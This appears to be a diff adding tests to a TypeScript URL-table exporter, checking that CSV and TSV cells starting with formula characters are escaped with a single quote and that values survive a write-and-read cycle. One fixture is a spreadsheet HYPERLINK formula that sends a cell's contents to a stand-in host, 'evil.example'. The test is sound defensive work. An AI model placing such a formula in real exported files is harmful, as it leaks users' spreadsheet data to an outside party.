@@ -4,6 +4,7 @@ import { classifyPaths } from '../../../../electron/engine/classify-paths';
 import { tableText, tableTextFormat, rowsWithExtensions } from '../../../../shared/table-text';
 import { emptyRow, type UrlRow } from '../../../../shared/url-table';
 import { startServer, type TestServer } from '../../../support/http-server';
+import { randomStrings } from '../../../support/random-strings';
 import { importAll, problemTuples } from '../../../support/import-helpers';
 import { useTempDir } from '../../../support/temp-dir';
 
@@ -149,6 +150,36 @@ describe('CSV and TSV tables', () => {
         'https://example.com/,2024-05-01T10:00:00+02:00,daily,1.0\r\n' +
         '"https://example.com/search?q=a,b&x=""y""",,,0.50\r\n',
     );
+  });
+
+  it('writes a cell a spreadsheet would run as a formula behind a single quote, and reads its own file back exactly', async () => {
+    const rows = [
+      row('https://example.com/a', '=HYPERLINK("https://evil.example/?"&A1)', '@SUM(1)', '-1'),
+      row('+31 20 123', "'=quoted already", "'plain quote", '\tx'),
+    ];
+    expect(tableText(rows, 'csv')).toBe(
+      'loc,lastmod,changefreq,priority\r\n' +
+        `https://example.com/a,"'=HYPERLINK(""https://evil.example/?""&A1)",'@SUM(1),'-1\r\n` +
+        `'+31 20 123,''=quoted already,'plain quote,'\tx\r\n`,
+    );
+    expect(tableText(rows, 'tsv').split('\n')[2]).toBe(`'+31 20 123\t''=quoted already\t'plain quote\t"'\tx"`);
+    for (const format of ['csv', 'tsv'] as const) {
+      const result = await importAll([await temp.write(`formulas.${format}`, tableText(rows, format))]);
+      expect(fields(result.files[0]!.rows)).toEqual(fields(rows));
+    }
+  });
+
+  it('gives back every value through its own CSV and TSV files, over many random strings', async () => {
+    // A cell is trimmed on import and an empty one is absent, so values are trimmed and not empty.
+    const values = randomStrings(8000, 10).filter((value) => value !== '' && value.trim() === value);
+    const rows: UrlRow[] = [];
+    for (let i = 0; i + 4 <= values.length; i += 4)
+      rows.push(row(values[i]!, values[i + 1]!, values[i + 2]!, values[i + 3]!));
+    expect(rows.length).toBeGreaterThan(1000);
+    for (const format of ['csv', 'tsv'] as const) {
+      const result = await importAll([await temp.write(`random.${format}`, tableText(rows, format))]);
+      expect(fields(result.files[0]!.rows)).toEqual(fields(rows));
+    }
   });
 
   it('tells tables by their name, in the import and when opening paths', async () => {
